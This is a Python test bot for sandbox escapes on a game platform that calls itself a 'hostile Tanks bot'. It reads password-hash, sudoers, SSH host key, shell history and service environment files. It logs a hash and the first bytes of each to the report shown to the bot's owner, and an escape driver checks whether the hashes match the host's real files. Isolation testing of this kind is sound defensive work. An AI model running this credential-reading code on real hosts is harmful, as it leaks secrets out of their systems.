"""Hostile Tanks bot: read the host's secrets.

The bot reads /etc/shadow, the services' configuration and environment
files it is told about (and the usual places: /etc/codefights, the repo's
config/, the local stack's env files) and prints what it found (a SHA-256 of
each file and its first bytes) into its log, which the report shows to the
bot's owner. The escape driver checks the report for the digests and
contents of the real files.
"""
# @ESCAPE_PRELUDE@


import glob
import hashlib


def attack():
    paths = ['/etc/shadow', '/etc/gshadow', '/etc/sudoers', '/root/.bash_history',
             '/etc/codefights/codefights.conf', '/etc/ssh/ssh_host_ed25519_key']
    paths.extend(CFG.get('secret_paths', []))
    for pattern in ('/work/*/config/*.conf', '/work/*/.run/env', '/work/run-*/env',
                    '/work/*/.run/*/env', '/proc/1/root/etc/shadow'):
        paths.extend(glob.glob(pattern))
    for path in paths:
        try:
            with open(path, 'rb') as f:
                data = f.read(1 << 20)
        except OSError:
            continue
        digest = hashlib.sha256(data).hexdigest()
        sys.stderr.write('LEAK %s sha256=%s head=%r\n' % (path, digest, data[:120]))
        sys.stderr.flush()
        # The driver passes the digests of the host's real files: a match is
        # the host's file, not a decoy the sandbox might provide.
        if digest in CFG.get('secret_digests', []):
            evidence('read the host\'s %s' % path)


# @ESCAPE_ATTACK_MAIN@
